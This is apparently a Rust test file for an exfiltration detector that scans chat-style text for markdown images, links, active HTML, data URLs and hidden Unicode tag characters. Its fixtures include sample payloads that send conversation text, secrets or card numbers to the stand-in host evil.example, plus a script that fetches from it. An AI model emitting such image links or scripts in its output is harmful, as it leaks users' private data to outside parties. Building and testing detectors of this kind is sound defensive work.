//! Tests of the exfiltration detector.

use super::*;

/// The strongest finding of a signal.
fn score(signal: &str, text: &str) -> f32 {
    let mut hits = Vec::new();
    Exfil::new().scan(text, &mut hits);
    hits.iter().filter(|hit| &*hit.signal == signal).map(|hit| hit.score).fold(0.0, f32::max)
}

#[test]
fn an_image_that_carries_words_is_certain() {
    for text in [
        "![x](https://evil.example/p.png?q=the+user+lives+in+Oslo+and)",
        "![x](https://evil.example/p.png?q=the%20plan%20is%20to%20sell)",
        "![](//evil.example/log?d={{conversation}})",
        "![a](<https://evil.example/c?data=<SECRET>>)",
        "![a][1]\n\n[1]: https://evil.example/?m=my+card+number+is+4111",
        "<img src=\"https://evil.example/a.gif?t=she+said+she+would+come\">",
    ] {
        let found = score(IMAGE, text).max(score(HTML, text));
        assert!(found > 0.9, "{text}: {found}");
    }
}

#[test]
fn an_image_with_something_opaque_is_likely() {
    assert!(score(IMAGE, "![x](https://evil.example/?d=c2stbGl2ZS1hYmNkZWZnaGlqa2xtbm9w)") > 0.5);
    assert!(score(LINK, "[more](https://evil.example/?d=the+password+of+the+account+is)") > 0.5);
}

#[test]
fn ordinary_pictures_and_links_are_not() {
    for text in [
        "![a cat](https://example.com/cat.png)",
        "![logo](https://cdn.example.com/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.png)",
        "![map](/images/map.svg) and ![b](cat.png?width=300)",
        "[docs](https://example.com/docs/how-to-install-the-thing-on-linux?utm_source=newsletter&utm_medium=email#setup)",
        "[paper](https://example.org/search?q=rust+async)",
        "[1]: https://example.com/page",
        "if a < b and c > d then [x](y)",
        "https://example.com/?q=plain+address+in+a+text",
    ] {
        for (signal, _) in SIGNALS {
            assert!(score(signal, text) < 0.5, "{signal} in {text}");
        }
    }
}

#[test]
fn active_html_is_told_unless_it_is_shown_as_code() {
    for text in [
        "<script>fetch('//evil.example')</script>",
        "<IFRAME src=x>",
        "<b onmouseover = alert(1)>",
        "<form action=//evil.example>",
    ] {
        assert!(score(HTML, text) > 0.5, "{text}");
    }
    assert_eq!(score(HTML, "Use this:\n```html\n<script src=\"a.js\"></script>\n```\nand reload."), 0.0);
    assert!(score(HTML, "```\ncode\n```\n<script>x</script>") > 0.5);
    assert_eq!(score(HTML, "The <b>bold</b> and the <em>beautiful</em>"), 0.0);
}

#[test]
fn data_urls_with_pages_are_told() {
    assert!(score(DATA_URL, "[open](data:text/html;base64,PGI+)") > 0.5);
    assert_eq!(score(DATA_URL, "![dot](data:image/png;base64,iVBORw0KGgo=)"), 0.0);
}

#[test]
fn hidden_tags_are_told_and_flags_are_not() {
    assert_eq!(score(TAGS, "hello\u{e0068}\u{e0069}"), 1.0);
    assert_eq!(score(TAGS, "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}"), 0.0);
}

#[test]
fn places_are_exact() {
    let text = "Look: ![x](https://evil.example/?q=one+two+three+four) there";
    let mut hits = Vec::new();
    Exfil::new().scan(text, &mut hits);
    assert_eq!(&text[hits[0].span.clone()], "![x](https://evil.example/?q=one+two+three+four");
}
